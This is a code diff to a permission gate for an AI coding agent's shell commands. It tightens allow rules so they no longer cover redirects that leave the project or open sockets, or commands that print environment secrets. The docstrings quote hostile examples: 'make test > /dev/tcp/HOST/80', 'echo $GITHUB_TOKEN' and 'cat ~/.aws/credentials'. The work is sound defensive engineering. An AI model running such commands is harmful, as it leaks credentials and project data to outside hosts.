@@ -6,7 +6,9 @@
   Bash call on its own (``*`` matches anything, a trailing `` *`` or ``:*`` also matches
   nothing, so ``Bash(ls *)`` matches ``ls`` and ``ls -la`` but not ``lsof``). Deny and ask
   rules also match past wrappers (``timeout 5 X``, ``nice X``, ``env A=1 X``) and past
-  leading ``NAME=value`` assignments; allow rules only past harmless assignments.
+  leading ``NAME=value`` assignments; allow rules only past harmless assignments, and not
+  over a redirect that leaves the allowed dirs or opens a socket, nor over a reader that
+  prints a secret of the environment (``echo $GITHUB_TOKEN``).
 * ``Read(~/notes/**)``, ``Edit(./src/**)``: gitignore-style path patterns (``//abs``,
   ``~/home-relative``, ``/project-relative``, ``./cwd-relative``; ``*`` within a segment,
   ``**`` across). ``Read`` covers Read, Glob, Grep, LS; ``Edit`` covers Edit, Write,
@@ -169,13 +171,63 @@ def match_command(rule: Rule, command: Command, paths: PathPolicy) -> bool:
         if rule.spec is None:
             return True
         matches = _bash_matcher(rule.spec)
-        return any(matches(form) for form in _command_strings(command, rule.kind))
+        if not any(matches(form) for form in _command_strings(command, rule.kind)):
+            return False
+        if rule.kind != ALLOW:
+            return True
+        if command.redirects and not _redirects_stay(command, paths):
+            return False
+        return not _prints_a_secret(command)
     if rule.tool == "Edit" and rule.kind != ALLOW and rule.spec is not None:
         return any(
             not word.dynamic and _path_match(rule, paths.resolve(word.text), paths)
             for word, _ in write_targets(command)
         )
     return False
+
+
+def _redirects_stay(command: Command, paths: PathPolicy) -> bool:
+    """Whether a command's redirects stay where the gate lets any command go.
+
+    An allow rule vouches for the words it matched, not for a redirect it never saw:
+    `make test > /dev/tcp/HOST/80` sends the output over the network (bash opens the
+    socket) and `echo x > ../f` writes outside the project. Such a command goes to the
+    checkers as if no rule matched. A target known only at run time is GK-PROT-005's.
+    """
+    from gatekeeper.paths import ALLOWED, DEVICE, NETWORK, TMP
+
+    for r in command.redirects:
+        target = r.target
+        if target.dynamic:
+            continue
+        if ">" not in r.op:  # a read: only a socket is more than the rule's own command
+            if paths.classify(target.text, write=False)[0] == NETWORK:
+                return False
+            continue
+        if r.op in (">&", "<>") and (target.text.isdigit() or target.text == "-"):
+            continue  # descriptor duplication (2>&1, >&2), not a file
+        if paths.classify(target.text, write=True)[0] not in (ALLOWED, TMP, DEVICE):
+            return False
+    return True
+
+
+def _prints_a_secret(command: Command) -> bool:
+    """Whether a reader or printer prints a secret of the environment (GK-ENV-002 ELEVATE).
+
+    `Bash(echo *)` vouches for `echo`, not for `echo $GITHUB_TOKEN`: a token printed goes to
+    the transcript like `cat ~/.aws/credentials`, which the protected-paths check asks for
+    under any rule. A secret handed to another program (`curl -H "...$TOKEN"`) stays the
+    rule's to allow.
+    """
+    from gatekeeper.shell.secretenv import printed_secret
+
+    if not printed_secret(command):
+        return False
+    from gatekeeper.model import Verdict
+    from gatekeeper.plugins.environment import printed_secret_finding
+
+    found = printed_secret_finding(command)
+    return found is not None and found.verdict is Verdict.ELEVATE
 
 
 def match_tool(rule: Rule, call: ToolCall, paths: PathPolicy) -> bool:
